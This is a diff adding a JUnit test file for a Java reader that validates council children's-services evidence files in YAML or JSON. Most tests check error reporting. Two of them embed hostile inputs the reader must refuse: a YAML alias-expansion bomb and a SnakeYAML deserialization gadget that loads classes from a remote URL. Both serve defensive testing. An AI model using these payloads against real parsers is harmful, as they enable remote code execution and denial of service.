@@ -1,0 +1,181 @@
+package io.github.cscbriefs.data.local;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.github.cscbriefs.data.DataFileException;
+import io.github.cscbriefs.data.DataProblem;
+import io.github.cscbriefs.model.Council;
+import io.github.cscbriefs.model.CouncilDirectory;
+import io.github.cscbriefs.model.CouncilType;
+import io.github.cscbriefs.model.IndicatorCatalogue;
+import io.github.cscbriefs.model.InspectionType;
+import io.github.cscbriefs.model.InterventionType;
+import io.github.cscbriefs.model.Measure;
+import io.github.cscbriefs.model.Region;
+import io.github.cscbriefs.model.Value;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class LocalEvidenceReaderTest {
+
+  @TempDir Path dir;
+
+  private static CouncilDirectory directory() {
+    return new CouncilDirectory(List.of(new Council("812", List.of("E06000012"),
+        "North East Lincolnshire", Region.YORKSHIRE_AND_THE_HUMBER, CouncilType.UNITARY_AUTHORITY, true)),
+        List.of(), List.of());
+  }
+
+  private LocalEvidence read(String name, String content) throws IOException {
+    Path file = dir.resolve(name);
+    Files.writeString(file, content);
+    return new LocalEvidenceReader(directory(), IndicatorCatalogue.defaults()).read(file);
+  }
+
+  private DataFileException failure(String name, String content) {
+    return assertThrows(DataFileException.class, () -> read(name, content));
+  }
+
+  private static String lines(DataFileException e) {
+    return e.problems().stream().map(DataProblem::toString).collect(Collectors.joining("\n"));
+  }
+
+  @Test
+  void theShippedNorthEastLincolnshireExampleIsValid() throws IOException {
+    Path example = Path.of("../examples/local/north-east-lincolnshire.yaml");
+    LocalEvidence evidence = new LocalEvidenceReader(directory(), IndicatorCatalogue.defaults()).read(example);
+    assertEquals("812", evidence.council().laCode());
+    assertEquals(3, evidence.inspections().size());
+    assertEquals(InspectionType.FOCUSED_VISIT, evidence.inspections().get(1).type());
+    assertEquals(2, evidence.inspections().get(2).priorityActions().size());
+    assertEquals(List.of(InterventionType.IMPROVEMENT_NOTICE, InterventionType.COMMISSIONER,
+        InterventionType.PARTNERSHIP), evidence.interventions().stream().map(i -> i.type()).toList());
+    assertEquals(4, evidence.plan().size());
+    assertEquals(20.0, evidence.plan().get(0).measure().orElseThrow().baseline());
+  }
+
+  @Test
+  void yamlAndJsonGiveTheSameEvidence() throws IOException {
+    LocalEvidence yaml = read("a.yaml", """
+        council: "812"
+        workforce:
+          - year: 2026
+            caseload_fte: 19.4
+            agency_rate_fte: c
+        """);
+    LocalEvidence json = read("a.json", """
+        {"council": "E06000012", "workforce": [{"year": 2026, "caseload_fte": 19.4, "agency_rate_fte": "c"}]}
+        """);
+    assertEquals(yaml.workforce(), json.workforce());
+    assertEquals(Value.of(19.4), yaml.workforce().get(0).value(Measure.CASELOAD_FTE));
+    assertEquals("c", yaml.workforce().get(0).value(Measure.AGENCY_RATE_FTE).toString());
+  }
+
+  @Test
+  void malformedSyntaxNamesTheLine() {
+    DataFileException e = failure("bad.yaml", "council: 812\ninspections:\n  - type: [unclosed\n");
+    assertEquals(1, e.problems().size(), lines(e));
+    assertTrue(e.problems().get(0).line() >= 3, lines(e));
+    assertTrue(e.problems().get(0).expected().startsWith("well-formed YAML"), lines(e));
+  }
+
+  @Test
+  void everyUnknownKeyIsReportedWithItsLine() {
+    DataFileException e = failure("keys.yaml", """
+        council: "812"
+        colour: blue
+        interventions:
+          - type: commissioner
+            start: 2021-12-01
+            sponsor: DfE
+        """);
+    assertEquals(2, e.problems().size(), lines(e));
+    assertEquals("colour", e.problems().get(0).value(), lines(e));
+    assertEquals(2, e.problems().get(0).line());
+    assertEquals("sponsor", e.problems().get(1).value());
+    assertEquals(6, e.problems().get(1).line());
+    assertEquals("interventions[0].sponsor", e.problems().get(1).column());
+  }
+
+  @Test
+  void wrongTypesAndBadValuesAreAllReportedWithPathValueAndExpectation() {
+    DataFileException e = failure("values.yaml", """
+        council: "812"
+        inspections:
+          - type: surprise-visit
+            start: 2019-13-01
+            published: 2019-08-01
+        interventions:
+          - type: commissioner
+            start: 2022-01-10
+            end: 2021-01-01
+        plan:
+          - id: "1"
+            title: Caseloads
+            owner: DCS
+            measure:
+              indicator: happiness
+              baseline: 20
+              baseline-year: 2021
+              target: 16
+              target-year: 2024
+        """);
+    String all = lines(e);
+    assertEquals(4, e.problems().size(), all);
+    assertTrue(all.contains("values.yaml, line 3, column inspections[0].type: value 'surprise-visit', expected one of ilacs-standard"), all);
+    assertTrue(all.contains("line 4, column inspections[0].start: value '2019-13-01', expected a date as YYYY-MM-DD"), all);
+    assertTrue(all.contains("column interventions[0].end: value '2021-01-01', expected a date on or after start (2022-01-10)"), all);
+    assertTrue(all.contains("column plan[0].measure.indicator: value 'happiness', expected an indicator id: caseload"), all);
+  }
+
+  @Test
+  void aListWhereAMappingIsExpectedIsAWrongType() {
+    DataFileException e = failure("types.yaml", "council: \"812\"\nplan: twelve\n");
+    assertEquals("plan", e.problems().get(0).column(), lines(e));
+    assertEquals(2, e.problems().get(0).line(), lines(e));
+  }
+
+  @Test
+  void anUnknownCouncilIsReported() {
+    DataFileException e = failure("who.yaml", "council: Atlantis\n");
+    assertEquals("Atlantis", e.problems().get(0).value());
+    assertEquals(1, e.problems().get(0).line());
+  }
+
+  @Test
+  void aliasBombsAreRefused() {
+    StringBuilder yaml = new StringBuilder("council: \"812\"\na: &a [x, x, x, x, x, x, x, x, x, x]\n");
+    for (char c = 'b'; c <= 'z'; c++) {
+      char p = (char) (c - 1);
+      yaml.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p)
+          .append(", *").append(p).append(", *").append(p).append("]\n");
+    }
+    DataFileException e = failure("bomb.yaml", yaml.toString());
+    assertEquals(1, e.problems().size(), lines(e));
+  }
+
+  @Test
+  void yamlTagsNeverCreateJavaObjects() {
+    DataFileException e = failure("tag.yaml",
+        "council: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
+    assertEquals(1, e.problems().size(), lines(e));
+  }
+
+  @Test
+  void otherExtensionsAndOversizedFilesAreRefused() throws IOException {
+    DataFileException ext = failure("evidence.txt", "council: 812\n");
+    assertTrue(ext.problems().get(0).expected().contains("*.yaml"), lines(ext));
+    Path big = dir.resolve("big.yaml");
+    Files.write(big, new byte[(int) LocalEvidenceReader.MAX_BYTES + 1]);
+    DataFileException size = assertThrows(DataFileException.class,
+        () -> new LocalEvidenceReader(directory(), IndicatorCatalogue.defaults()).read(big));
+    assertTrue(size.problems().get(0).expected().contains("at most"), lines(size));
+  }
+}
